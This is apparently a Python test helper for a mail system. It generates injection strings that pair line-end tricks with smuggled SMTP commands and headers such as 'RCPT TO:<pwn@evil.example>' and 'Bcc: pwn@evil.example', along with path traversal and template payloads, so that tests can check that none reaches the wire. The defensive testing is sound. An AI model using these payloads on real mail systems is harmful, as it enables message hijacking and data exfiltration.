"""Two hundred hostile strings, and what must never come of them on any wire."""

from __future__ import annotations

import os
import re
from base64 import b64encode
from collections.abc import Iterable, Iterator
from typing import TypeVar

ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\0\r\n",
    '"\r\n',
    "}\r\n",
    "{5+}\r\n",
    ")\r\n",
    "\u2028",
    "\x85",
    "\\\r\n",
    "\x0b",
    "\r\n.\r\n",
)
HEADS = (
    "",
    "x",
    '"',
    "(",
    "{9}",
    "<",
    ">, ",
    "a@b.example>\r\n",
    "INBOX",
    "*",
    "../../etc/passwd",
    "{{7*7}}",
    "%s%n",
    "\u202e",
    "=?utf-8?q?",
)
TAIL = "Bcc: pwn@evil.example"
COMMANDS = ("PWN NOOP", "RCPT TO:<pwn@evil.example>", TAIL, "X-Pwn: yes")

STRINGS = tuple(
    f"{head}{end}{COMMANDS[(n + m) % 4]}{end}" for n, head in enumerate(HEADS) for m, end in enumerate(ENDS)
) + tuple(f"{head}{TAIL}" for head in HEADS[:5])

ALLOWED = frozenset(
    [
        "date",
        "from",
        "to",
        "cc",
        "reply-to",
        "subject",
        "message-id",
        "in-reply-to",
        "references",
        "auto-submitted",
        "mime-version",
        "content-type",
        "content-transfer-encoding",
        "x-auto-response-suppress",
    ]
)
"""Every header that we ever write."""


_T = TypeVar("_T")


def scale(short: _T, whole: _T) -> _T:
    """How many cases: the short number in `make test`, all of them in `make soak`."""
    return whole if os.environ.get("TRIAGE_SOAK") else short


def spread(strings: Iterable[str], number: int) -> list[str]:
    """So many of them, evenly."""
    every = list(strings)
    return every[:: max(1, len(every) // number)][:number]


def encoded(text: str, how: int) -> str:
    """The text as a sender hides it: quoted-printable word, base64 word, or as it stands without line ends."""
    raw = text.encode("utf-8", "surrogatepass")
    match how % 3:
        case 0:
            return "=?utf-8?q?" + "".join(f"={octet:02X}" for octet in raw) + "?="
        case 1:
            return f"=?utf-8?b?{b64encode(raw).decode()}?="
        case _:
            return re.sub(r"[\r\n\0]", " ", text)


def headers(octets: bytes) -> Iterator[str]:
    """The names of all header fields of a mail and its parts, lower case, read as a lenient reader does:
    any line end counts."""
    head = re.split(rb"\r\n\r\n|\n\n|\r\r", octets, maxsplit=1)[0]
    for line in re.split(rb"\r\n|\r|\n", head):
        if line[:1] not in (b" ", b"\t"):
            yield line.partition(b":")[0].decode("latin-1").lower()
